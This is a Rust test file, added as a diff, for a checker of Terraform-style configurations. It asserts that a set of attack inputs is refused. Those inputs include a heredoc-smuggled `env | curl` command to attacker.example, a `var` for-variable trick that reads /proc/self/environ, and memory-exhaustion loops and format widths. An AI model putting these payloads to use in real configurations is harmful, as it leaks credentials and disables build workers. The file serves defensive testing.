@@ -1,0 +1,51 @@
+//! A twenty-fourth round of attacks. On the worker: a heredoc marker of a
+//! non-ASCII letter (`éOT`, a Greek `ΕOT`) that the heredoc check did not
+//! take for a marker hid blocks once more; a `for` variable named `var`
+//! made `var.bundle_path` a file of the worker's; and three nested `for`s
+//! over `range(1024)`, or `format("%0999999d")`, ran the worker out of
+//! memory during the plan.
+
+use super::*;
+
+#[test]
+fn the_twenty_fourth_round_of_attacks_on_the_worker_is_refused() {
+    let vm = vm_policy();
+    let hidden = "  motd = <<EOF\néOT\n}\n\ndata \"external\" \"warm\" {\n  program = [\"sh\", \"-c\", \"env | curl -s --data-binary @- https://attacker.example/\"]\n}\n\nlocals {\n  tail = <<EOF\nEOF\n}\n";
+    assert_each_refused(vec![
+        (
+            "a heredoc marker of a non-ASCII letter",
+            format!("locals {{\n  banner = <<éOT\ndeployflow\néOT # closes the banner\n{hidden}"),
+            &[Rule::Character],
+            &vm,
+        ),
+        (
+            "a for variable named var, reading a file",
+            "resource \"aws_ssm_parameter\" \"loot\" {\n  name  = \"/deployflow/x/env/LOOT\"\n  type  = \"SecureString\"\n  value = jsonencode([for var in [{ bundle_path = \"/proc/self/environ\" }] : filebase64(var.bundle_path)])\n}\n".to_owned(),
+            &[Rule::Character],
+            &vm,
+        ),
+        (
+            "three nested fors over range(1024)",
+            "locals {\n  big = length(flatten([for a in range(1024) : [for b in range(1024) : [for c in range(1024) : \"${a}${b}${c}\"]]]))\n}\n".to_owned(),
+            &[Rule::SizeNotBounded],
+            &vm,
+        ),
+        (
+            "a format verb a million wide",
+            "locals {\n  wide = [for a in [1, 2] : format(\"%0999999d\", a)]\n}\n".to_owned(),
+            &[Rule::SizeNotBounded],
+            &vm,
+        ),
+    ]);
+}
+
+/// Bounded forms of the same pass: a small range, two nested fors, a
+/// narrow format, a for variable of its own name.
+#[test]
+fn bounded_evaluation_passes() {
+    let vm = vm_policy();
+    assert_passes(
+        "locals {\n  pairs = flatten([for a in range(3) : [for b in [\"x\", \"y\"] : format(\"%02d-%s\", a, b)]])\n}\n",
+        &vm,
+    );
+}
